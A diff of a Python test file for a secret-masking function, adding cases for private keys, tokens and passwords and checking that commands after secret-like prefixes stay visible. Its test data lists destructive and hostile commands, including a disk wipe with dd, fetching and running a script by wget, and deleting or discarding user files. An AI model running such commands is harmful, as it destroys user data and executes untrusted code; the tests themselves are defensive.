@@ -13,7 +13,8 @@ from hub.domain.masking import WORD_CHARS_MAX, mask
 
 MARK = re.compile(r"⟨hidden: (\d+) characters?⟩")
 BODY = "QUFhYmNkMTIzNDU2Nzg5MGFiY2RlZjk4NzY1NDMyMUFCQ0RFRjEyMzQ1Njc4OTBa"
-KEY = f"-----BEGIN PRIVATE KEY-----\n{BODY}\nZm9v1w==\n-----END PRIVATE KEY-----"
+BEGIN, END = "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"
+KEY = f"{BEGIN}\n{BODY}\n{BODY}\nZm9v1w==\n{END}"
 
 
 @pytest.mark.parametrize(
@@ -32,7 +33,14 @@ KEY = f"-----BEGIN PRIVATE KEY-----\n{BODY}\nZm9v1w==\n-----END PRIVATE KEY-----
         ("sk-ant-api03-AbCdEf0123456789abcdef", "sk-ant-⟨hidden: 28 characters⟩"),
         ("password: hunter2x", "password: ⟨hidden: 8 characters⟩"),
         ("password=P@ssw0rd!", "password=⟨hidden: 9 characters⟩"),
-        (KEY, f"-----BEGIN PRIVATE KEY-----\n⟨hidden: {len(BODY) + 9} characters⟩\n-----END PRIVATE KEY-----"),
+        (KEY, f"{BEGIN}\n⟨hidden: 64 characters⟩\n⟨hidden: 64 characters⟩\nZm9v1w==\n{END}"),
+        (rf'"{BEGIN}\n{BODY}\n{END}\n"', rf'"{BEGIN}\n⟨hidden: 64 characters⟩\n{END}\n"'),
+        (f"+{BEGIN}\r\n+{BODY}\r\n", f"+{BEGIN}⟨U+000D⟩\n+⟨hidden: 64 characters⟩⟨U+000D⟩\n"),
+        (f"key: |\n  {BEGIN}\n  {BODY}", f"key: |\n  {BEGIN}\n  ⟨hidden: 64 characters⟩"),
+        ("curl -H 'Authorization: Bearer a8Zk3Lq9Xw2'", "curl -H 'Authorization: Bearer ⟨hidden: 11 characters⟩'"),
+        ("$token = 'x1y2z3'", "$token = '⟨hidden: 6 characters⟩'"),
+        ("x-auth-token: x1y2z3", "x-auth-token: ⟨hidden: 6 characters⟩"),
+        ("db:\n  password = x1y2z3", "db:\n  password = ⟨hidden: 6 characters⟩"),
         (
             "token=MTk4NjIyNDgzNDcxOTI1MjQ4.Cl2FMQ.ZnCjm1XVW7vRze4b7Cq4se7kKWs",
             "token=⟨hidden: 59 characters⟩",
@@ -92,7 +100,80 @@ def test_what_is_no_secret_is_never_hidden(text: str) -> None:
     assert visible(text) == text
 
 
-NAMES = ("password=", "token=", "--secret ", "api_key: ", "https://me:", "ghp_", "sk-", "Bearer ", "eyJ", "AKIA")
+RUNNABLE = (
+    "bash /tmp/x1",
+    "dd if=/dev/zero of=/dev/sda1",
+    "git push origin HEAD\n1234567890",
+    "mv /home/me/photos /dev/null1",
+    "rm /home/me/thesis/chapter1",
+    "sudo bash /tmp/x1",
+    "crontab /tmp/x1",
+    "wget 3405803777/x1\nbash x1",
+    "npm publish",
+    "run1me9",
+    "/home/me/QUFhYmNkMTIzNDU2Nzg5MGFiY2RlZjk4NzY1NDMyMUFCQ0RF",
+)
+BEFORE_A_COMMAND = (
+    f": {BEGIN}\n",
+    f"cat > key.pem <<EOF\n{KEY}\nEOF\n",
+    f"cat > key.pem <<EOF\n{BEGIN}\n{BODY}\nEOF\n",
+    f"cat > key.pem <<EOF\n{BEGIN}\n{BODY}\n",
+    f": {BEGIN} {BODY} ",
+    *(
+        f"{before}{sign}"
+        for before in (
+            "token=",
+            "password=",
+            "Authorization=token",
+            "Authorization=basic",
+            "X=Authorization:token",
+            "X=bearer",
+            "X=a:bearer",
+            "X=a-Bearer",
+            "env -u bearer",
+            "env -u token:",
+            "flock password:",
+            "> secret:",
+            "unshare -rpwd",
+            "ghp_",
+            "sk-",
+            "-u bob:",
+            "://me:",
+        )
+        for sign in (" ", "\t", "  ", "\n", "\r\n", "\n\n", " \n", ";", "&&", "|", "&")
+    ),
+    *(f"{variable}{sign}" for variable in ("$token", "$env:TOKEN", "${script:password}", "$a.secret") for sign in "= "),
+    "$Token = ",
+)
+
+
+def test_no_command_is_hidden_behind_what_a_secret_follows() -> None:
+    for before in BEFORE_A_COMMAND:
+        for command in RUNNABLE:
+            for end in ("", f"\n{END}", "; ls"):
+                assert command in mask(f"{before}{command}{end}"), (before, command)
+
+
+@pytest.mark.slow
+@given(st.lists(st.sampled_from((BEGIN, END, BODY, "token=", "Bearer", "run1me9", "--token", "password:", "EOF"))))
+def test_no_mark_reaches_over_a_blank(words: list[str]) -> None:
+    for between in (" ", "\n", "\t", "\r\n"):
+        text = between.join(words)
+        assert MARK.sub("", mask(text)).count(between) == text.count(between)
+
+
+NAMES = (
+    "password=",
+    "token=",
+    "--secret ",
+    "api_key: ",
+    "https://me:",
+    "ghp_",
+    "sk-",
+    "Authorization: Bearer ",
+    "eyJ",
+    "AKIA",
+)
 PIECES = st.one_of(
     st.sampled_from((*NAMES, '"', "'", "@host", " ", "\n", "-----BEGIN PRIVATE KEY-----\n", "⟨hidden: 3 characters⟩")),
     st.text(alphabet=string.ascii_letters + string.digits + "-_./+=@!$`;&|", max_size=24),
@@ -134,3 +215,12 @@ def test_random_secrets_of_known_kinds_are_hidden() -> None:
     for name, chars in kinds.items():
         made = ["".join(secrets.choice(letters) for _ in range(chars)) for _ in range(400)]
         assert sum(one in mask(name + one) for one in made) < len(made) // 10, name
+
+
+@pytest.mark.slow
+def test_nearly_all_lines_of_real_keys_are_hidden() -> None:
+    lines = [
+        "".join(secrets.choice(string.ascii_letters + string.digits + "+/") for _ in range(64)) for _ in range(400)
+    ]
+    shown = mask(f"{BEGIN}\n" + "\n".join(lines) + f"\n{END}")
+    assert shown.count("⟨hidden: 64 characters⟩") > len(lines) * 9 // 10
